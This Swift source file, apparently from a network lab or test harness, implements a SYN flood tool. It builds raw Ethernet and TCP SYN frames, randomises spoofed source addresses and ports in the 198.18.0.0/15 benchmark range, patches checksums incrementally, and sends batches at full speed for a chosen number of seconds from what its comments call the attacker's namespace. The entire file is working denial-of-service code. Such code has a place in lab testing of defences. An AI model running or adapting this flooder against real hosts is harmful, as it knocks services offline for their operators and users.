// SPDX-License-Identifier: Apache-2.0

import LinuxKernel
public import Wire

/// SYNs from random sources, as fast as one thread can send them: runs inside the attacker's namespace.
public struct SynFlood: Sendable {
  public var interface: String
  public var gateway: MACAddress
  public var target: Endpoint
  public var seconds: Double

  public init(interface: String, gateway: MACAddress, target: Endpoint, seconds: Double) {
    self.interface = interface
    self.gateway = gateway
    self.target = target
    self.seconds = seconds
  }

  /// Sources are in 198.18.0.0/15, which RFC 2544 gives to benchmarks.
  public static let sources: UInt32 = 0xc612_0000
  private static let frames = 256
  private static let ethernet = 14

  /// - Returns: frames that were sent, and the seconds that it took.
  public func run() throws(LabError) -> (sent: Int, seconds: Double) {
    do {
      var random = SystemRandomNumberGenerator()
      var batch = try FrameBatch(interface: interface, count: SynFlood.frames)
      var (frames, length) = makeFrames(&random)
      let started = MonotonicTime.now()
      let end = started + UInt64(seconds * 1e9)
      var sent = 0
      while MonotonicTime.now() < end {
        for index in 0..<SynFlood.frames { change(&frames, index * length, &random) }
        sent += batch.send(frames.span, length: length)
      }
      return (sent, Double(MonotonicTime.now() - started) / 1e9)
    } catch {
      throw LabError("cannot flood: \(error)")
    }
  }

  private func makeFrames(_ random: inout SystemRandomNumberGenerator) -> ([UInt8], Int) {
    let options = TCPOptions(
      maximumSegmentSize: 1460, windowScale: 7, sackPermitted: true, timestamps: TCPTimestamps(value: 1, echo: 0))
    let segment = TCPSegment(
      source: Endpoint(IPAddress(ipv4: SynFlood.sources), 1024), destination: target, sequence: SequenceNumber(0),
      flags: .syn, window: 64_240, options: options)
    var packet = [UInt8](repeating: 0, count: segment.headerLength)
    var span = packet.mutableSpan
    _ = segment.emit(payload: Span(), into: &span)
    let header = (0..<6).map { gateway[$0] } + [2, 0, 0, 0, 0xbe, 0xef, 0x08, 0x00]
    let frame = header + packet
    return ((0..<SynFlood.frames).flatMap { _ in frame }, frame.count)
  }

  /// Another source and number, and checksums that fit (RFC 1624).
  private func change(_ frames: inout [UInt8], _ start: Int, _ random: inout SystemRandomNumberGenerator) {
    let bits = random.next() as UInt64
    let ip = start + SynFlood.ethernet
    let tcp = ip + 20
    let source = SynFlood.sources | UInt32(truncatingIfNeeded: bits) & 0x1_ffff
    let port = UInt16(truncatingIfNeeded: bits >> 32) | 1024
    let sequence = UInt16(truncatingIfNeeded: bits >> 48)
    let addressDelta =
      replace(&frames, ip + 12, UInt16(source >> 16)) + replace(&frames, ip + 14, UInt16(source & 0xffff))
    let portDelta = replace(&frames, tcp, port) + replace(&frames, tcp + 4, sequence)
    adjust(&frames, ip + 10, addressDelta)
    adjust(&frames, tcp + 16, addressDelta + portDelta)
  }

  /// Writes a word; returns what it adds to the complement of the checksum.
  private func replace(_ frames: inout [UInt8], _ offset: Int, _ value: UInt16) -> UInt32 {
    let old = UInt16(frames[offset]) << 8 | UInt16(frames[offset + 1])
    frames[offset] = UInt8(value >> 8)
    frames[offset + 1] = UInt8(value & 255)
    return UInt32(~old) + UInt32(value)
  }

  private func adjust(_ frames: inout [UInt8], _ offset: Int, _ delta: UInt32) {
    let old = UInt16(frames[offset]) << 8 | UInt16(frames[offset + 1])
    let value = ~InternetChecksum.fold(UInt64(~old) + UInt64(delta))
    frames[offset] = UInt8(value >> 8)
    frames[offset + 1] = UInt8(value & 255)
  }
}
